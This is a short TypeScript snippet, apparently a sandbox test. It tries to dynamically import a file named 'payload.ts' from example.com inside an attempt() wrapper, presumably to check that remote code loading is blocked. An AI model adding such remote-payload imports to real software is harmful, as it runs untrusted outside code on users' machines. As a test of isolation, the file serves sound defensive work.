// Tries to load code from the internet at run time.
import { attempt } from "./_attempt.ts";
const url = "https://example.com/payload.ts";
await attempt(() => import(url));
